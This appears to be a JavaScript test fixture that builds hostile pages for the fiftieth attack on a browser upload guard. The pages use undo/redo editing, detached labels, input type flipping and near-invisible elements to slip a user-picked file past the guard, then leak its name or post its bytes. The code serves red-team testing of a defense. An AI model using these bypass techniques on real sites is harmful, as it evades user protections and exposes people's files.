// Hostile pages for the fiftieth attack on the upload guard: the survey of
// wrapped insertions (insertions.js survey/insertGuarded, file-barrier.js
// withholdInserted, closed-host telling). Chromium's own picker is opened as
// in attacks 44-49's labeldeep (a span deep inside a DETACHED label holding a
// file input i, clicked in the person's click on "#open"); the page then gets
// i connected, and drawn, some way the survey misses, and reads the name
// Chromium draws (attack 48's findsel). A name learnt goes up as a text note
// "leak-….txt". Served by server.mjs at /attack50-…; tests: attack50.test.mjs.

import { findSelection, leakNote as leak, attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';


const findsel = (why) => findSelection(why);

/**
 * The label (i and the deep span) is first put CONNECTED in a contenteditable div (a wrapped insertion: i is empty,
 * nothing held), then taken out by the browser's editing (execCommand `how` over a selection of the label), which
 * keeps the very nodes on its undo stack. The deep span in the now detached label is clicked in the person's click:
 * Chromium's picker fills i, unheard. Then execCommand('undo') (or 'redo' after two undos…) puts the SAME label back:
 * a wrapped call, but it is given no node, so the survey (insertGuarded: `nodes` empty) looks at nothing.
 */
const undoPick = (onChange, how = "document.execCommand('delete')", ceCss = 'width:600px', form = false) => `
      ${leak}
      const ce = document.createElement('div'); ce.contentEditable = 'true'; ce.style.cssText = ${JSON.stringify(ceCss)};
      const l = document.createElement('label'); const i = document.createElement('input'); i.type = 'file'; i.name = 'photo';
      const x = document.createElement('input'); let t = x; x.addEventListener('click', () => { x.type = 'hidden'; }); t.textContent = 'x';
      l.append(i, x); ce.append('a', l, 'b');
      const f = document.createElement('form'); f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = '/upload'; f.append(ce); ${form ? "f.append(Object.assign(document.createElement('button'), { type: 'submit', textContent: 'go' }));" : ''} document.body.append(${form ? 'f' : 'ce'});
      ce.focus(); const r = document.createRange(); r.selectNode(l); const s = getSelection(); s.removeAllRanges(); s.addRange(r);
      ${how};
      note('after edit: l connected ' + l.isConnected + ', i connected ' + i.isConnected + ', i in l ' + (i.parentNode === l));
      i.addEventListener('change', () => { note('change'); try { ${onChange} } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
      document.getElementById('open').addEventListener('click', () => { try { t.click(); } catch (e) { note('click threw ' + e.name); } });`;

const undoBack = (why, after = '') => `ce.focus(); const ok = document.execCommand('undo'); note('undo ' + ok + ' i connected ' + i.isConnected + ' w ' + i.offsetWidth + ' ' + i.getBoundingClientRect().width); ${after}
        ${findsel(why)}`;

const HTML_WAYS = {
  // undoPick with delete, then undo.
  undodelete: undoPick(undoBack('undodelete')),
  // undoPick with cut, then undo.
  undocut: undoPick(undoBack('undocut'), "document.execCommand('cut')"),
  // The label replaced by insertText, then undo.
  undotext: undoPick(undoBack('undotext'), "document.execCommand('insertText', false, 'z')"),
  // undodelete, ce made not editable (an attribute, no insertion) before findsel.
  undoplain: undoPick(undoBack('undoplain', "ce.contentEditable = 'false'; getSelection().removeAllRanges(); i.style.width = '600px';")),
  // undoplain out of sight (attack 48's findquiet: fixed, 1px high, opacity 0.01), the label deleted again after.
  undoquiet: undoPick(undoBack('undoquiet', "ce.contentEditable = 'false'; getSelection().removeAllRanges();") + "ce.remove();", "document.execCommand('delete')", 'opacity:0.01;height:1px;overflow:hidden;position:fixed;bottom:0;left:0;width:600px'),
  // undodelete, then redo (delete again) and undo: the undo stack walked back and forth, each a wrapped call given no node.
  redo: undoPick(`ce.focus(); document.execCommand('undo'); document.execCommand('redo'); note('redo i connected ' + i.isConnected); document.execCommand('undo'); ce.contentEditable = 'false'; getSelection().removeAllRanges(); ${findsel('redo')}`),
  // the same, findsel a moment later.
  undolater: undoPick(`ce.focus(); document.execCommand('undo'); ce.contentEditable = 'false'; getSelection().removeAllRanges(); setTimeout(() => { ${findsel('undolater')} }, 300);`),
  // undodelete, the bytes: ce inside a multipart form, posted natively after undo.
  undopost: undoPick(`ce.focus(); document.execCommand('undo'); note('undo i connected ' + i.isConnected + ' in form ' + (i.form === f)); f.submit();`, undefined, undefined, true),
  // the same posted by a native click on a submit button put in the form at the start.
  undobutton: undoPick(`ce.focus(); document.execCommand('undo'); ce.contentEditable = 'false'; note('undo i connected ' + i.isConnected + ' in form ' + (i.form === f)); f.querySelector('button').click();`, undefined, undefined, true),
  // undodelete, but the undo is the PERSON's own Ctrl+Z in the editor (the test presses it once `window.undoNow`).
  personundo: undoPick(`ce.focus(); ce.addEventListener('input', (e) => { note('input ' + e.inputType + ' i connected ' + i.isConnected); if (e.inputType === 'historyUndo') setTimeout(() => { ce.contentEditable = 'false'; getSelection().removeAllRanges(); ${findsel('personundo')} }, 0); }); window.undoNow = true;`),
  // i filled detached, its type set to text, connected (the survey sees no file input), its type set back to file.
  typeflip: browsersOwnPick(`i.type = 'text'; document.body.replaceChildren(i); i.type = 'file'; i.style.width = '600px'; ${findsel('typeflip')}`, { before: leak }),
  // attack 48's findsel for reference (held by the survey).
  findsel: browsersOwnPick(`document.body.replaceChildren(i); i.style.width = '600px'; ${findsel('findsel')}`, { before: leak }),
};
const { names: PICKER_WAYS, page: picker } = pickerWaysPage(HTML_WAYS);
export { PICKER_WAYS };
export const attack50Page = attackPages(50, picker, {});
